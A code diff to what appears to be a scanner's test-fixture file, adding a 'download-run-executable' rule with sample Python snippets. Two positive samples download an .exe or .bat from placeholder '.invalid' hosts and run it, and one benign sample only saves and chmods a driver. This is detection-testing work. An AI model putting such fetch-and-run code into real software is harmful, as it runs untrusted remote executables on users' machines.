@@ -128,6 +128,44 @@ def fetch_dataset(path):
     with open(path, "wb") as f:
         f.write(r.content)
 """
+DOWNLOAD_EXE_RUN = """\
+import os
+import requests
+
+
+def main():
+    reply = requests.get("https://cdn.example.invalid/attachments/1/launcher.exe")
+    open("launcher.exe", "wb").write(reply.content)
+    os.system("launcher.exe")
+"""
+
+DOWNLOAD_BAT_START = """\
+import os
+import urllib.request
+
+
+def update():
+    data = urllib.request.urlopen("https://files.example.invalid/u").read()
+    with open(os.path.join(os.getenv("TEMP"), "update.bat"), "wb") as handle:
+        handle.write(data)
+    os.startfile(os.path.join(os.getenv("TEMP"), "update.bat"))
+"""
+
+# A tool that fetches a platform's driver under a name it builds, and makes it executable.
+DOWNLOAD_DRIVER_COMPUTED_NAME = """\
+import os
+import requests
+
+
+def install_driver(version):
+    name = f"driver_{version}" + (".exe" if os.name == "nt" else "")
+    reply = requests.get(f"https://drivers.example.invalid/{version}/{name}")
+    with open(name, "wb") as handle:
+        handle.write(reply.content)
+    os.chmod(name, 0o755)
+"""
+
+
 DOWNLOAD_TOOL_RUNTIME = f"""\
 import os, stat, subprocess, urllib.request
 
@@ -605,6 +643,10 @@ FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
     "download-run-runtime": RuleFixtures(
         positive=[module(DOWNLOAD_TOOL_RUNTIME)],
         benign=[module(DOWNLOAD_ONLY_SAVE), module(DOWNLOAD_PYZ_RUN)],
+    ),
+    "download-run-executable": RuleFixtures(
+        positive=[module(DOWNLOAD_EXE_RUN), module(DOWNLOAD_BAT_START)],
+        benign=[module(DOWNLOAD_TOOL_RUNTIME), module(DOWNLOAD_DRIVER_COMPUTED_NAME)],
     ),
     "dropper-write-run": RuleFixtures(
         positive=[
